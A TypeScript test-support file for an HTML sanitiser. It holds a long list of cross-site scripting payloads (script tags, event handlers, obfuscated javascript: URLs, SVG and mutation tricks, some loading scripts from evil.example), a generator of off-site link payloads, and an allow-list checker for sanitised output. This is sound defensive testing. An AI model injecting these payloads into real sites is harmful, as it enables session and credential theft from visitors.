// Shared by the sanitiser and content tests: hostile inputs and an independent checker of the output.
import { parseDocument } from 'htmlparser2';
import type { AnyNode } from 'domhandler';

/** Payloads from public XSS cheat sheets and mutation-XSS research, plus WordPress-specific ones. */
export const XSS_PAYLOADS: readonly string[] = [
  // script elements
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '<script/xss src="//evil.example/x.js"></script>',
  '<p>before<script type="module">import("//evil.example")</script>after</p>',
  // event handlers
  '<img src=x onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)">',
  '<img src=x onerror=alert(1)//',
  '<img/src="x"/onerror=alert(1)>',
  '<img src="x" onerror  =  "alert(1)">',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<body onload=alert(1)>text</body>',
  '<details open ontoggle=alert(1)>x</details>',
  '<a href="/ok" onclick="alert(1)" onmouseover=alert(1)>x</a>',
  '<p id="x" name="y" onfocus=alert(1) tabindex=1 autofocus contenteditable>focus</p>',
  '<marquee onstart=alert(1)>m</marquee>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<h2 onmouseover="alert(1)">Heading</h2>',
  // javascript:, data:, vbscript: URLs, plain and obfuscated
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="java&#13;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="jav&#x61;script:alert(1)">x</a>',
  '<a href="javascript&#0000058alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href="&#14;javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="javascript\u0000:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="VBScript&#58;msgbox(1)">x</a>',
  '<a href="livescript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
  '<a href="javascript:alert(1)" <img src=x onerror=alert(1)>x</a>',
  '<a href="javascript:alert(1)"',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="javascript:alert(1)">',
  '<img src="  jaVaScRiPt:alert(1)">',
  '<img srcset="javascript:alert(1) 1x, /ok.jpg 2x">',
  '<img src="/ok.jpg" srcset="data:image/png;base64,AAAA 1x">',
  '<img src="/ok.jpg" srcset="/a.jpg 1x, jav&#x09;ascript:alert(1) 2x">',
  '<blockquote cite="javascript:alert(1)">q</blockquote>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">t</td></tr></table>',
  // protocol-relative and backslash tricks
  '<a href="//evil.example/">x</a>',
  '<a href="\\\\evil.example/">x</a>',
  '<a href="/\\evil.example/">x</a>',
  '<img src="//evil.example/track.gif">',
  // forms and formaction
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<input type="image" formaction="javascript:alert(1)" src=x>',
  '<form action="javascript:alert(1)"><input type=submit value="go"></form>',
  '<isindex action="javascript:alert(1)" type=image>',
  // embedded documents
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  // SVG and MathML
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
  '<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">CLICK</math>',
  '<math><style><img src=x onerror=alert(1)></style></math>',
  // CSS
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="width: expression(alert(1))">x</div>',
  '<style>@import "javascript:alert(1)";</style><p>after</p>',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<p class="x" style="-moz-binding:url(//evil.example/xss.xml#xss)">x</p>',
  // document-level elements
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<html><head><title>t</title></head><body onload=alert(1)><p>b</p></body></html>',
  // mutation XSS through raw-text elements
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>',
  '<title><img src=x onerror=alert(1)></title>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<noframes><img src=x onerror=alert(1)></noframes>',
  '<template><img src=x onerror=alert(1)></template>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<p title="&quot;><script>alert(1)</script>">x</p>',
  '<img """><script>alert(1)</script>">',
  '<a title="</a><img src=x onerror=alert(1)>">x</a>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  // comments and CDATA
  '<!--<img src=x onerror=alert(1)>-->',
  '<!-- <!-- nested --> <img src=x onerror=alert(1)> -->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<?xml-stylesheet href="javascript:alert(1)"?><p>pi</p>',
  // escaped markup must stay text
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<p>&lt;img src=x onerror=alert(1)&gt;</p>',
];

/**
 * Links to the WordPress host at `origin` (e.g. "https://cms.example.in") whose path, made
 * site-relative, would read as another host: "//evil.example" directly, or after the backslashes,
 * tabs, newlines and dot segments a browser folds away, or once a server decodes an encoded slash.
 */
export function wordpressLinkPayloads(origin: string): string[] {
  const { protocol, host } = new URL(origin);
  return [
    `<a href="${origin}//evil.example/x">x</a>`,
    `<a href="${origin}///evil.example/x">x</a>`,
    `<a href="${origin}/\\evil.example/x">x</a>`,
    `<a href="${protocol}\\\\${host}\\\\evil.example/x">x</a>`,
    `<a href="${origin}/&#9;/evil.example/x">x</a>`,
    `<a href="${origin}/&#10;/evil.example/x">x</a>`,
    `<a href="${origin}/a/..//evil.example/x">x</a>`,
    `<a href="${origin}/%2e%2e//evil.example/x">x</a>`,
    `<a href="${origin}/%2Fevil.example/x">x</a>`,
    `<a href="${origin}/%2f%2fevil.example/x">x</a>`,
    `<a href="${origin}/%5Cevil.example/x">x</a>`,
    `<a href="${origin}/%252Fevil.example/x">x</a>`,
    `<a href="${origin}//evil.example/x?q=1#top" target="_blank">x</a>`,
  ];
}

const ALLOWED: Record<string, readonly string[]> = {
  p: [],
  div: [],
  h1: [],
  h2: [],
  h3: [],
  h4: [],
  h5: [],
  h6: [],
  ul: [],
  ol: ['start', 'reversed', 'type'],
  li: ['value'],
  dl: [],
  dt: [],
  dd: [],
  blockquote: ['cite'],
  q: ['cite'],
  figure: [],
  figcaption: [],
  table: [],
  caption: [],
  colgroup: ['span'],
  col: ['span'],
  thead: [],
  tbody: [],
  tfoot: [],
  tr: [],
  th: ['colspan', 'rowspan', 'scope', 'abbr'],
  td: ['colspan', 'rowspan'],
  a: ['href', 'target', 'rel', 'aria-label'],
  img: ['src', 'srcset', 'sizes', 'alt', 'width', 'height', 'loading', 'decoding'],
  strong: [],
  em: [],
  b: [],
  i: [],
  u: [],
  s: [],
  del: ['cite'],
  ins: ['cite'],
  small: [],
  code: [],
  pre: [],
  br: [],
  hr: [],
  span: [],
  sub: [],
  sup: [],
  mark: [],
  cite: [],
  abbr: [],
  details: ['open'],
  summary: [],
};
const GLOBAL = ['class', 'title', 'lang', 'dir', 'id'];
// An id may stay only in the shape of an editor's anchor or a footnote's UUID.
const ID_OK = /^[A-Za-z0-9][\w-]{0,99}$/;
const URL_ATTRIBUTES = new Set(['href', 'src', 'cite']);
const CLASS_OK = /^(?:wp-block-[\w-]+|has-[\w-]+|align[\w-]+)$/;

/** The URL as a browser would see its scheme: every control character and space removed. */
function urlProblem(value: string): string | null {
  // eslint-disable-next-line no-control-regex
  const squashed = value.replace(/[\u0000-\u0020\u007f-\u009f]/g, '').toLowerCase();
  if (/(?:javascript|vbscript|livescript|data):/.test(squashed))
    return `dangerous scheme in ${JSON.stringify(value)}`;
  if (/^[\\/]{2}/.test(squashed)) return `protocol-relative URL ${JSON.stringify(value)}`;
  // "/%2Fhost": protocol-relative once a server decodes the path (e.g. in a redirect).
  if (/^\/%(?:25)*(?:2f|5c)/.test(squashed)) return `encoded protocol-relative URL ${JSON.stringify(value)}`;
  const scheme = /^([^/?#]*?):/.exec(squashed);
  if (scheme && !['http', 'https', 'mailto', 'tel'].includes(scheme[1] as string)) {
    return `scheme ${scheme[1]} in ${JSON.stringify(value)}`;
  }
  return null;
}

/** The host an http(s) link leads to as a browser reads it, or null for other and broken links. */
function linkHost(value: string): string | null {
  // eslint-disable-next-line no-control-regex
  const url = value.replace(/[\t\n\r]/g, '').replace(/^[\u0000-\u0020]+|[\u0000-\u0020]+$/g, '');
  if (!/^https?:/i.test(url)) return null;
  try {
    return new URL(url).hostname.toLowerCase();
  } catch {
    return null;
  }
}

/**
 * Parses sanitised output with htmlparser2 and lists everything that should not be there: element
 * or attribute outside the allow-list, event handlers, dangerous or protocol-relative URLs, comments,
 * CDATA, processing instructions, unsafe rel on new-tab links and on links off the site (any host
 * but `internalHosts`), images without lazy loading.
 */
export function findUnsafe(
  html: string,
  opts: { headingIds?: boolean; internalHosts?: readonly string[] } = {},
): string[] {
  const internalHosts = new Set((opts.internalHosts ?? []).map((h) => h.toLowerCase()));
  const problems: string[] = [];
  const lower = html.toLowerCase();
  for (const marker of [
    '<script',
    '<iframe',
    '<svg',
    '<math',
    '<style',
    '<object',
    '<embed',
    '<form',
    '<noscript',
    '<!--',
    '<![cdata[',
    '<?',
  ]) {
    if (lower.includes(marker)) problems.push(`raw ${marker} in output`);
  }
  const doc = parseDocument(html, { decodeEntities: true });
  const stack: AnyNode[] = [...doc.children];
  while (stack.length > 0) {
    const node = stack.pop() as AnyNode;
    if (node.type === 'text') continue;
    if (node.type !== 'tag') {
      problems.push(`node of type ${node.type}`);
      continue;
    }
    const allowed = ALLOWED[node.name];
    if (!allowed) problems.push(`element <${node.name}>`);
    for (const [name, value] of Object.entries(node.attribs)) {
      if (/^on/i.test(name)) problems.push(`event handler ${name} on <${node.name}>`);
      const headingId = opts.headingIds === true && name === 'id' && /^h[1-3]$/.test(node.name);
      // prepareContent's own wrapper around tables (tables.ts), with exactly these values.
      const tableRegion =
        opts.headingIds === true &&
        node.name === 'div' &&
        node.attribs.class === 'table-scroll' &&
        node.attribs.role === 'region' &&
        node.attribs.tabindex === '0' &&
        ['class', 'role', 'tabindex', 'aria-label'].includes(name);
      if (!headingId && !tableRegion && !GLOBAL.includes(name) && !(allowed ?? []).includes(name)) {
        problems.push(`attribute ${name} on <${node.name}>`);
      }
      if (URL_ATTRIBUTES.has(name)) {
        const problem = urlProblem(value);
        if (problem) problems.push(problem);
      }
      if (name === 'srcset') {
        for (const candidate of value.split(/,\s+/)) {
          const problem = urlProblem(candidate.trim().split(/\s+/)[0] ?? '');
          if (problem) problems.push(`srcset: ${problem}`);
        }
      }
      if (name === 'id' && !headingId && !ID_OK.test(value)) problems.push(`id ${JSON.stringify(value)}`);
      if (name === 'class' && !tableRegion) {
        for (const c of value.split(/\s+/)) if (!CLASS_OK.test(c)) problems.push(`class ${c}`);
      }
    }
    if (node.name === 'a') {
      const rel = (node.attribs.rel ?? '').split(/\s+/);
      const safeRel = rel.includes('noopener') && rel.includes('noreferrer');
      if (node.attribs.target === '_blank' && !safeRel)
        problems.push('target=_blank without noopener noreferrer');
      const host = linkHost(node.attribs.href ?? '');
      if (host !== null && !internalHosts.has(host) && !safeRel) {
        problems.push(`link to ${host} without noopener noreferrer`);
      }
    }
    if (node.name === 'img') {
      if (!node.attribs.src) problems.push('img without src');
      if (node.attribs.decoding !== 'async') problems.push('img without decoding=async');
    }
    stack.push(...node.children);
  }
  return problems;
}
